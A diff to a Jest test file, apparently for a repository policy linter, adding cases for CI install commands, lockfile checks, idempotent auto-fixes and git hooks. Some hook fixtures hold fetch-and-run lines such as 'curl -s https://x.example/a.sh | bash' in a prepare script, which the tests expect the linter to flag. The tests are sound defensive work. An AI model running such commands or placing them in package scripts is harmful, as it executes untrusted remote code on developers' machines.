@@ -2,6 +2,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { judgeFiles } from '../../src/judge-files.ts';
 import { parsePolicy } from '../../src/policy/parse.ts';
+import { planFixes } from '../../src/repository/fix.ts';
 import { repositoryRules } from '../../src/repository-rules/index.ts';
 
 const policy = parsePolicy('{"extends": "recommended"}', 'p', repositoryRules);
@@ -109,6 +110,10 @@ describe('install commands, in every CI system', () => {
     ['a project without a lockfile', { 'package.json': '{}', ...github('- run: npm install') }],
     ['yarn run something', { ...yarn1, ...github('- run: yarn build', '- run: yarn --version') }],
     ['text that is no command', { ...npm, ...github('- run: echo "run npm install first"') }],
+    ['GitLab, frozen', { ...npm, '.gitlab-ci.yml': 'default:\n  before_script:\n    - npm ci\n' }],
+    ['Azure, frozen', { ...npm, 'azure-pipelines.yml': "steps:\n- task: Npm@1\n  inputs:\n    command: 'ci'\n- bash: npm ci\n" }],
+    ['CircleCI, frozen', { ...npm, '.circleci/config.yml': 'jobs:\n  a:\n    steps:\n      - checkout\n      - run: npm ci\n' }],
+    ['Jenkins, frozen', { ...npm, Jenkinsfile: "node {\n  checkout scm\n  sh 'npm ci'\n}\n" }],
     ['a here-document', { ...npm, ...github('- run: |', '    cat > README <<EOF', '    npm install', '    EOF') }],
   ])('pass: %s', (_title, files) => expect(seen(files)).toEqual([]));
 });
@@ -299,6 +304,70 @@ describe('many projects in one repository', () => {
   });
 });
 
+describe('lockfiles', () => {
+  const asks = '{"private": true, "dependencies": {"a": "^1.0.0"}}';
+  it.each<[string, Record<string, string>, string[]]>([
+    ['none', { 'package.json': asks }, ['lockfile-missing package.json:1']],
+    ['switched off', { 'package.json': asks, '.npmrc': 'package-lock=false\n' }, ['lockfile-missing package.json:1']],
+    ['ignored by git', { 'package.json': asks, '.gitignore': 'dist\n/yarn.lock\n' }, ['lockfile-missing package.json:1']],
+    [
+      'two managers',
+      { 'package.json': '{"packageManager": "npm@12.0.0"}', 'package-lock.json': '{"packages": {"": {}}}', 'yarn.lock': '# yarn lockfile v1\n' },
+      ['several-lockfiles yarn.lock:1'],
+    ],
+    [
+      'out of step',
+      { 'package.json': asks, 'package-lock.json': '{"packages": {"": {"dependencies": {"a": "^0.9.0"}}}}' },
+      ['lockfile-out-of-step package.json:1'],
+    ],
+    [
+      'out of step, pnpm',
+      {
+        'package.json': asks,
+        'pnpm-lock.yaml':
+          "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: ^0.9.0\n        version: 0.9.1\n",
+      },
+      ['lockfile-out-of-step package.json:1'],
+    ],
+    ['in step', { 'package.json': asks, 'package-lock.json': '{"packages": {"": {"dependencies": {"a": "^1.0.0"}}}}' }, []],
+    ['nothing to lock', { 'package.json': '{"private": true}' }, []],
+    ['a member of a workspace', { 'pnpm-workspace.yaml': 'packages: [a]\n', 'a/package.json': asks }, []],
+  ])('%s', (_title, files, expected) => expect(seen(files, /^(?:lockfile|several|gap)/)).toEqual(expected));
+});
+
+describe('corrections', () => {
+  const flagged = repositoryRules
+    .filter(({ kind }) => kind === 'state')
+    .flatMap(({ meta, examples }) => examples.map((each) => [meta.id, each.title, each.now] as const));
+
+  it.each(flagged)('%s: %s: made once, nothing is left to make, and nothing else has changed', (_id, _title, now) => {
+    const before = new Map(Object.entries(now));
+    const made = corrected(before);
+    expect(corrected(made)).toEqual(made);
+    for (const [file, text] of before) {
+      const lines = text.split('\n');
+      const kept = (made.get(file) ?? '').split('\n');
+      expect(kept.length).toBeGreaterThanOrEqual(lines.length);
+      // A line that differs still holds its indent and its comment.
+      for (const [at, line] of lines.entries()) expect(kept[at]?.match(/^\s*|#.*$/g)).toEqual(line.match(/^\s*|#.*$/g));
+    }
+  });
+
+  function corrected(texts: ReadonlyMap<string, string>): ReadonlyMap<string, string> {
+    const { fixes } = judgeFiles({
+      rules: repositoryRules,
+      files: { now: texts, paths: new Set(texts.keys()) },
+      policy,
+      now: Date.UTC(2026, 10, 23),
+    });
+    const plan = planFixes(
+      fixes.map(({ fix }) => fix),
+      (file) => texts.get(file),
+    );
+    return new Map([...texts, ...plan.map(({ file, after }) => [file, after] as const)]);
+  }
+});
+
 describe('hooks and exceptions', () => {
   it.each<[string, Record<string, string>, string[]]>([
     [
@@ -311,6 +380,15 @@ describe('hooks and exceptions', () => {
       { 'package.json': '{"simple-git-hooks": {\n"pre-push": "curl -sL https://x.example/a.sh | sh"}}' },
       ['hook-runs-unpinned package.json:2'],
     ],
+    ['husky', { ...npm, '.husky/pre-push': 'npx --yes some-tool\n' }, ['hook-runs-unpinned .husky/pre-push:1']],
+    ['lefthook, a tool that is installed', { ...npm, 'lefthook.yml': 'pre-commit:\n  commands:\n    lint:\n      run: npx eslint .\n' }, []],
+    [
+      'simple-git-hooks, a script',
+      { ...npm, 'package.json': '{"simple-git-hooks": {"pre-push": "npm test"}, "devDependencies": {"eslint": "9.0.0"}}' },
+      [],
+    ],
+    ['prepare', { 'package.json': '{"scripts": {"prepare": "curl -s https://x.example/a.sh | bash"}}' }, ['hook-runs-unpinned package.json:1']],
+    ['prepare, a build', { 'package.json': '{"scripts": {"prepare": "husky && tsc -b"}}' }, []],
     ['a script of npm run', { ...npm, '.husky/pre-commit': '. "$(dirname "$0")/_/husky.sh"\n\nnpm test\nnpx eslint .\n' }, []],
     [
       'audit-ci',
